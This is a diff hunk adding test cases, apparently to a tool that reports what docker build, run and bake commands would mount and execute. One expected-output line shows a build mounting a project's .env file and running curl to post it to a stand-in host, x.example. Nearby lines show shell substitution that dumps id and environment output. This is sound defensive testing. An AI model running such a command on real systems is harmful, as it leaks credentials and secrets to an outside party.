@@ -272,6 +272,10 @@ services:
 			"docker run api runs=[sh -c|echo $HOME $(id)|id|env] ; " + // the container's shell runs $(id)
 			"docker build context=./ci runs=[sh -c|echo hi] ; " +
 			"docker run inline mounts=[/p/data:/d]"},
+		{`docker buildx bake`, "docker build context=. runs=[sh -c|make]"},
+		{`docker buildx bake -f ci/c.yml api`, "docker build context=. mounts=[/p/.env:/e] mapped runs=[sh -c|curl -d @/p/.env https://x.example] ; docker build context=./ci runs=[sh -c|echo hi]"},
+		{`docker buildx bake --print`, ""},
+		{`docker buildx bake -f docker-bake.hcl`, ""},
 		{`docker compose ps`, ""},
 		{`docker compose logs -f evil`, ""},
 		{`docker compose down`, ""},
